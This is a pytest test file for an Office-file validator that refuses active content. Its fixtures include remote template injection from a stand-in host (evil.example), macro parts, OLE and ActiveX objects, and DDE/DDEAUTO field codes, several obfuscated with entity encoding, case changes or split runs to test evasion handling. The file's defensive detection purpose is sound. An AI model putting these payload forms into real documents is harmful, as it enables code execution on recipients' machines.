"""Office files that would do something: known by what they mean, however it is written."""

import io
import zipfile

import pytest

from reform_tracker.active_content import Harm, Harmful
from reform_tracker.packages import require_harmless_parts

TYPES = '<?xml version="1.0"?><Types><Override ContentType="{}"/></Types>'
RELATION = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="{}"{}/></Relationships>'
OUTSIDE = ' TargetMode="External"'
WORD = '<w:document xmlns:w="x"><w:body><w:p>{}</w:p></w:body></w:document>'
BEGIN, MIDDLE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
RELS, TEXT = "word/_rels/document.xml.rels", "word/document.xml"


def code(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def package(parts: dict[str, str | bytes]) -> io.BytesIO:
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": "<Types/>",
        TEXT: WORD.format(""),
        **parts,
    }
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in whole.items():
            archive.writestr(name, content)
    return target


def utf16(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


TEMPLATE = RELATION.format("attachedTempl&#97;te", "http://evil.example/a.dotm", OUTSIDE)
HARMFUL: dict[str, tuple[dict[str, str | bytes], Harm]] = {
    "template by a reference": ({RELS: TEMPLATE}, Harm.TEMPLATE),
    "template in UTF-16": ({RELS: utf16(TEMPLATE)}, Harm.TEMPLATE),
    "template in capitals": ({RELS: TEMPLATE.replace("Type=", "TYPE=")}, Harm.TEMPLATE),
    "macro by a reference": (
        {"[Content_Types].xml": TYPES.format("application/vba&#80;roject")},
        Harm.MACRO,
    ),
    "macro by the name of its part": ({"word/vbaProject.bin": b"x"}, Harm.MACRO),
    "object": ({RELS: RELATION.format("ole&#x4f;bject", "a.bin", "")}, Harm.OBJECT),
    "control": ({"word/activeX/activeX1.xml": "<x/>"}, Harm.OBJECT),
    "picture elsewhere": (
        {RELS: RELATION.format("image", "http://evil.example/a.png", OUTSIDE)},
        Harm.OUTSIDE,
    ),
    "DDE": ({TEXT: WORD.format(BEGIN + code(' DDEAUTO c:\\\\x "/k"') + MIDDLE + END)}, Harm.FIELD),
    "DDE cut up": (
        {TEXT: WORD.format(BEGIN + code(" D", "&#68;", "E ", "excel") + MIDDLE + END)},
        Harm.FIELD,
    ),
    "DDE never closed": ({TEXT: WORD.format(BEGIN + code("DDE excel"))}, Harm.FIELD),
    "DDE around another field": (
        {TEXT: WORD.format(BEGIN + code("DDE ") + BEGIN + code("PAGE") + END + code("x") + END)},
        Harm.FIELD,
    ),
    "DDE in a header": (
        {"word/header1.xml": WORD.format('<w:fldSimple w:instr=" dde excel x"/>')},
        Harm.FIELD,
    ),
    "picture by a field": (
        {TEXT: WORD.format(BEGIN + code('INCLUDEPICTURE "http://x/a.png"') + END)},
        Harm.FIELD,
    ),
    "DDE in a workbook": (
        {"xl/externalLinks/externalLink1.xml": "<externalLink><x:ddeLink/></externalLink>"},
        Harm.FIELD,
    ),
    "document type": ({RELS: f'<!DOCTYPE x [<!ENTITY a "b">]>{RELATION}'}, Harm.BROKEN),
    "no XML": ({RELS: "<Relationships>"}, Harm.BROKEN),
}


@pytest.mark.parametrize(("parts", "harm"), HARMFUL.values(), ids=HARMFUL)
def test_what_would_act_is_refused_with_its_reason(
    parts: dict[str, str | bytes], harm: Harm
) -> None:
    with pytest.raises(Harmful) as refused:
        require_harmless_parts(package(parts))
    assert refused.value.harm is harm


HARMLESS: dict[str, dict[str, str | bytes]] = {
    "address that a person follows": {RELS: RELATION.format("hyperlink", "http://a/", OUTSIDE)},
    "picture in the file": {RELS: RELATION.format("image", "media/a.png", "")},
    "page number and table of contents": {
        TEXT: WORD.format(BEGIN + code(" PAGE ") + MIDDLE + END + BEGIN + code(" TOC \\o ") + END)
    },
    "values of another workbook": {
        "xl/externalLinks/_rels/externalLink1.xml.rels": RELATION.format(
            "externalLinkPath", "file:///b.xlsx", OUTSIDE
        )
    },
    "text that speaks of it": {TEXT: WORD.format("<w:r><w:t>DDEAUTO vbaProject</w:t></w:r>")},
    "UTF-16": {TEXT: utf16(WORD.format("<w:r><w:t>改革</w:t></w:r>"))},
}


@pytest.mark.parametrize("parts", HARMLESS.values(), ids=HARMLESS)
def test_what_only_is_read_is_taken(parts: dict[str, str | bytes]) -> None:
    assert "word/document.xml" in require_harmless_parts(package(parts))
